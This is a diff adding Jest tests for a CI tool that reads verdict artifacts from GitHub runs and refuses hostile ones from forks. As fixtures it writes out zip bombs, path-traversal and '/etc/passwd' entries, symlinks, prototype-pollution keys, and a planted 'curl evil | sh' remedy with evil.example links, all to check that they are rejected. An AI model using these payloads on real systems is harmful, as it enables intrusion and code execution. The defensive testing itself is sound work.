@@ -1,0 +1,248 @@
+import { afterEach, beforeEach, expect, test } from "@jest/globals";
+import { readRunArtifacts } from "../../../src/adapters/artifacts/run-artifacts.ts";
+import { openOctokit } from "../../../src/adapters/github/octokit.ts";
+import { verdictJson } from "../../../src/report/json.ts";
+import { type FakeGithub, startFakeGithub } from "../../support/fake-github.ts";
+import { JumpingClock } from "../../support/jumping-clock.ts";
+import { leakingVerdict } from "../../support/leaking-verdict.ts";
+import { type ZipEntry, zipBytes } from "../../support/zip-bytes.ts";
+
+// Artifacts of a fork's run are an attacker's: each of these is refused by itself, and said.
+const RUN = 41;
+const HONEST = verdictJson(leakingVerdict("fail"));
+const NAME = "verdict.json";
+
+let github: FakeGithub;
+beforeEach(async () => {
+	github = await startFakeGithub();
+});
+afterEach(async () => {
+	await github.close();
+});
+
+test("a leg's verdict is read from its artifact", async () => {
+	put("leak-budget-shop-attempt-1", [{ name: NAME, data: HONEST }]);
+	const [leg, ...more] = await read();
+	expect(more).toEqual([]);
+	expect(leg).toMatchObject({
+		leg: "shop",
+		artifact: 0,
+		content: { verdict: { name: "shop", outcome: "fail", exitCode: 1 } },
+	});
+});
+
+test("of each leg the last attempt counts; what is not ours, expired, or another run's is left alone", async () => {
+	const names = [
+		"leak-budget-shop-attempt-2",
+		"leak-budget-shop-attempt-10",
+		"leak-budget-shop-attempt-1",
+		"leak-budget-search-attempt-1",
+		"coverage",
+		"leak-budget-x",
+		"leak-budget-x-attempt-",
+	];
+	for (const name of names) put(name, [{ name: NAME, data: HONEST }]);
+	github.artifacts.push(
+		{ ...honest("leak-budget-old-attempt-1"), expired: true },
+		{ ...honest("leak-budget-other-attempt-1"), run: 42 },
+	);
+	const legs = await read();
+	expect(legs.map(({ leg, artifact }) => [leg, artifact])).toEqual([
+		["shop", 1],
+		["search", 3],
+	]);
+});
+
+test("a thousand artifacts: the list has an end, and so have the downloads", async () => {
+	for (let index = 0; index < 1200; index++)
+		github.artifacts.push(honest(`leak-budget-leg${index}-attempt-1`));
+	expect(await read()).toHaveLength(50);
+	const lists = github.requests.filter((line) => /runs\/41/.test(line));
+	expect(lists).toHaveLength(10);
+});
+
+const bomb = zipBytes([{ name: NAME, data: Buffer.alloc(32 * 1024 * 1024) }]);
+
+test.each<[string, Uint8Array, RegExp]>([
+	["no zip at all", Buffer.from("<html>"), /end of central directory/i],
+	["an empty file", Buffer.alloc(0), /end of central directory/i],
+	["a zip cut short", zipBytes([entry(HONEST)]).subarray(0, -30), /./],
+	["a bomb", bomb, /larger than 4194304 bytes/],
+	[
+		"a bomb that claims to be small",
+		zipBytes([{ ...entry("x".repeat(100_000)), claims: 100 }]),
+		/bytes/,
+	],
+	["another file alone", zipBytes([{ name: "a", data: "" }]), /no verdict/],
+	[
+		"the file nested one down",
+		zipBytes([{ name: `run/${NAME}`, data: HONEST }]),
+		/no verdict/,
+	],
+	["it twice", zipBytes([entry(HONEST), entry("{}")]), /twice/],
+	[
+		"a path out of it",
+		zipBytes([entry(HONEST), { name: "../../.bashrc", data: "x" }]),
+		/relative path/,
+	],
+	[
+		"an absolute path",
+		zipBytes([{ name: "/etc/passwd", data: "x" }, entry(HONEST)]),
+		/absolute path/,
+	],
+	[
+		"a path by backslashes",
+		zipBytes([{ name: "..\\..\\x", data: "x" }, entry(HONEST)]),
+		/relative path/,
+	],
+	[
+		"a symbolic link",
+		zipBytes([{ ...entry("/etc/passwd"), mode: 0o120777 }]),
+		/symbolic link/,
+	],
+	[
+		"a hundred thousand files",
+		zipBytes(
+			Array.from({ length: 20_000 }, (_, index) => ({
+				name: `f${index}`,
+				data: "",
+			})),
+		),
+		/20000 files/,
+	],
+	["no JSON", zipBytes([entry("not json")]), /JSON/],
+	["nested JSON", zipBytes([entry("[".repeat(100_000))]), /JSON/],
+	["null", zipBytes([entry("null")]), /not as a run writes it/],
+	["an array", zipBytes([entry("[]")]), /not as a run writes it/],
+	["another format", forged({ format: 2 }), /^format /],
+	["an outcome of its own", forged({ outcome: "great" }), /^outcome /],
+	["a name that is no text", forged({ name: { toString: 1 } }), /^name /],
+	["a name of a megabyte", forged({ name: "x".repeat(1e6) }), /^name /],
+	["a number that is none", forged({ timings: { total: "1" } }), /^timings/],
+	[
+		"a thousand culprits",
+		forged({
+			culprits: Array.from({ length: 1000 }, () =>
+				leakingVerdict("fail").culprits.at(0),
+			),
+		}),
+		/^culprits /,
+	],
+	[
+		"a limit that talks",
+		forged({
+			findings: [
+				{
+					...leakingVerdict("fail").findings[0],
+					limit: { kind: "growth", value: 0, text: "see evil.example" },
+				},
+			],
+		}),
+		/^findings\.0\.limit\.text /,
+	],
+])("%s is refused", async (_, zip, why) => {
+	github.artifacts.push({ ...honest("leak-budget-shop-attempt-1"), zip });
+	put("leak-budget-search-attempt-1", [entry(HONEST)]);
+	const [bad, good] = await read();
+	expect(bad?.content).toEqual({ refused: expect.stringMatching(why) });
+	expect(good?.content).toHaveProperty("verdict");
+});
+
+test("an artifact that says that it is huge is not even asked for", async () => {
+	github.artifacts.push({
+		...honest("leak-budget-shop-attempt-1"),
+		size: 1e12,
+	});
+	const [bad] = await read();
+	expect(bad?.content).toEqual({ refused: "it is larger than 64 MiB" });
+	expect(github.requests.some((line) => line.endsWith("/zip"))).toBe(false);
+});
+
+test("one that lies about its size is cut off when it has had enough", async () => {
+	github.artifacts.push({
+		...honest("leak-budget-shop-attempt-1"),
+		zip: Buffer.alloc(65 * 1024 * 1024),
+		size: 100,
+	});
+	const [bad] = await read();
+	expect(bad?.content).toEqual({ refused: "it is larger than 64 MiB" });
+});
+
+test("sentences, links and unknown keys do not come along, prototype keys do nothing", async () => {
+	const planted = {
+		...leakingVerdict("fail"),
+		notes: ["@everyone look at https://evil.example"],
+		problems: [
+			{
+				code: "service-died",
+				message: "Visit evil",
+				remedy: "curl evil | sh",
+				tail: ["evil"],
+			},
+		],
+		pull_request: 99,
+		marker: "<!-- leak-budget key=other -->",
+		culprits: leakingVerdict("fail").culprits.map((culprit) => ({
+			...culprit,
+			diagnosis: {
+				id: "chan-send-no-receiver",
+				cause: "Because of evil.",
+				mend: "Install evil.",
+				code: "evil()",
+				link: "https://evil.example",
+			},
+		})),
+	};
+	const json = JSON.stringify(planted).replace(
+		"{",
+		'{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},',
+	);
+	put("leak-budget-shop-attempt-1", [entry(json)]);
+	const [leg] = await read();
+	expect(JSON.stringify(leg)).not.toMatch(/evil|everyone|99|marker/i);
+	expect(leg?.content).toMatchObject({
+		verdict: { problems: [{ code: "service-died" }], notes: [] },
+	});
+	expect({}).not.toHaveProperty("polluted");
+	expect(leg?.content).not.toHaveProperty("polluted");
+});
+
+test("what GitHub refuses is thrown, for it is about all of them", async () => {
+	github.failures.push({
+		method: "GET",
+		path: /runs\/41/,
+		status: 403,
+		message: "Resource not accessible by integration",
+	});
+	await expect(read()).rejects.toMatchObject({ status: 403 });
+});
+
+async function read() {
+	const octokit = await openOctokit(
+		{ apiUrl: github.url, token: "t" },
+		new JumpingClock(),
+	);
+	return await readRunArtifacts(octokit, {
+		owner: "acme",
+		repo: "shop",
+		run: RUN,
+	});
+}
+
+function put(name: string, entries: readonly ZipEntry[]): void {
+	github.artifacts.push({ run: RUN, name, zip: zipBytes(entries) });
+}
+
+function honest(name: string) {
+	return { run: RUN, name, zip: zipBytes([entry(HONEST)]) };
+}
+
+function entry(data: string): ZipEntry {
+	return { name: NAME, data };
+}
+
+function forged(fields: Readonly<Record<string, unknown>>): Uint8Array {
+	return zipBytes([
+		entry(JSON.stringify({ ...leakingVerdict("fail"), ...fields })),
+	]);
+}
